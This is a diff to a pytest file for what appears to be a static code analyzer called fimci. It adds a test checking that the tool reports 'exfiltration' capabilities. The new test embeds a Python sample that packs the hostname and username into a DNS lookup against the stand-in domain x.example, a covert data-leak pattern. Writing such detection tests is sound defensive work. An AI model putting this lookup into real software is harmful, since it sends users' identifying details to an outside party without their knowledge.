@@ -5,6 +5,8 @@ from __future__ import annotations
 import pytest
 
 from fimci.capabilities.python_names import NAMES
+from fimci.model import Capability
+from fimci.readers.code import python
 from fimci.readers.code.python_syntax import computing, folding
 from fimci.readers.code.python_syntax.program import program
 
@@ -37,3 +39,17 @@ def test_a_known_function_with_any_arguments(given: str) -> None:
         lines.append(f"exec(m{number}.{member}({given}))" if module else f"exec({name}({given}))")
     for start in range(0, len(lines), 400):
         program("\n".join(lines[start : start + 400]).encode(), "x.py")
+
+
+def test_who_asks_for_an_address_made_of_unknown_parts_sends_nothing() -> None:
+    code = b"""import socket, os, platform, getpass
+def ask(name):
+    facts = socket.gethostname() + platform.node() + getpass.getuser()
+    return socket.getaddrinfo(f"{facts}.%s", None)
+"""
+    told = {record.name for record in python.read("a.py", code % b"{name}") if isinstance(record, Capability)}
+    assert "exfiltration" not in told
+    told = {
+        record.name for record in python.read("a.py", code % b"x.example") if isinstance(record, Capability)
+    }
+    assert "exfiltration" in told
